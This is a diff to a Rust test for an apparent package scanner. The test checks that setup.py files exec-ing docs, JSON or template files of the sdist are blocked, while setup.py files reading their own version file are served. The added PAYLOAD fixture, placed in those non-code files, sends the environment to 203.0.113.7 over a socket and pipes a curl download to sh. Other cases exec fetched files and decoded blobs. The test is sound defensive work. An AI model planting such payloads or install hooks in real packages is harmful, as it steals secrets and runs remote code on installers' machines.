@@ -2010,14 +2010,17 @@ enum BuildFile {
 
 /// Issue 10's version-idiom class, through every detector and the shipped policy: a setup.py
 /// (or an in-tree build backend) reading its own version or about file, in any spelling, is
-/// served; the same shapes around a fetch, a decoded blob, a file outside the source tree or a
-/// file the same module wrote first are blocked.
+/// served; the same shapes around a fetch, a decoded blob, a file outside the source tree, a
+/// file the same module wrote first, or a file of the tree that is not Python code (a payload
+/// kept in docs or data, shipped in every case's sdist) are blocked.
 #[test]
 fn reading_the_packages_own_version_file_is_served_in_any_spelling_and_its_malicious_variants_block() {
     use crate::model::Decision::{Block, Serve};
     use BuildFile::{InTreeBackend, SetupPy};
     const HEAD: &str = "import os, io, re, ast, codecs, runpy, pathlib, importlib.util\nfrom pathlib import Path\nfrom setuptools import setup\n";
     const VERSION_PY: &[u8] = b"__version__ = '1.0'\n__author__ = 'A. Maintainer'\n";
+    // Shipped in every case's sdist; only the malicious cases below run it.
+    const PAYLOAD: &[u8] = b"import os, socket, json\nd = json.dumps(dict(os.environ)).encode()\ns = socket.create_connection(('203.0.113.7', 8080))\ns.sendall(d)\nos.system('curl -s http://203.0.113.7/x.sh | sh')\n";
     const PYPROJECT_BACKEND: &[u8] =
         b"[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build_backend\"]\n";
     let cases: &[(&str, BuildFile, &str, crate::model::Decision)] = &[
@@ -2054,6 +2057,11 @@ fn reading_the_packages_own_version_file_is_served_in_any_spelling_and_its_malic
         ("exec of a file this setup.py wrote from a decoded blob", SetupPy, "import base64\nwith open('demo/version.py', 'w') as f:\n    f.write(base64.b64decode('aW1wb3J0IG9z').decode())\nexec(open('demo/version.py').read())\nsetup(name='demo', version='1.0')\n", Block),
         ("exec of a file this setup.py downloaded first", SetupPy, "import urllib.request\nurllib.request.urlretrieve('https://example.org/v.py', 'demo/_v.py')\nexec(open('demo/_v.py').read())\nsetup(name='demo', version='1.0')\n", Block),
         ("an in-tree backend exec of a fetched file", InTreeBackend, "import urllib.request\nfrom setuptools.build_meta import *\nexec(urllib.request.urlopen('https://example.org/hook.py').read(), globals())\n", Block),
+        // A file of the sdist's own tree that is not Python code: its text is judged by no rule as
+        // code that runs at install, so running it hands a payload kept there to install time.
+        ("exec of a markdown file of the tree, stripped", SetupPy, "here = os.path.dirname(os.path.abspath(__file__))\nwith open(os.path.join(here, 'docs', 'notes.md')) as fp:\n    src = fp.read()\nexec(src.strip() + '\\n', {})\nsetup(name='demo', version='1.0')\n", Block),
+        ("exec of a JSON data file of the package", SetupPy, "exec(open(os.path.join('demo', 'data.json')).read().strip() + '\\n', {})\nsetup(name='demo', version='1.0')\n", Block),
+        ("exec of a template of the tree through pathlib", SetupPy, "exec((Path(__file__).parent / 'setup.cfg.in').read_text().strip(), {})\nsetup(name='demo', version='1.0')\n", Block),
     ];
     let scanner = Scanner::new(Limits::default()).with_threads(1);
     let mut wrong = Vec::new();
@@ -2063,6 +2071,9 @@ fn reading_the_packages_own_version_file_is_served_in_any_spelling_and_its_malic
             T::File(b"demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: A demo.\nAuthor-email: a@example.org\nLicense: MIT\n"),
             T::File(b"demo-1.0/demo/__init__.py", b"from .version import __version__\n"),
             T::File(b"demo-1.0/demo/version.py", VERSION_PY),
+            T::File(b"demo-1.0/docs/notes.md", PAYLOAD),
+            T::File(b"demo-1.0/demo/data.json", PAYLOAD),
+            T::File(b"demo-1.0/setup.cfg.in", PAYLOAD),
         ];
         match place {
             SetupPy => members.push(T::File(b"demo-1.0/setup.py", code.as_bytes())),
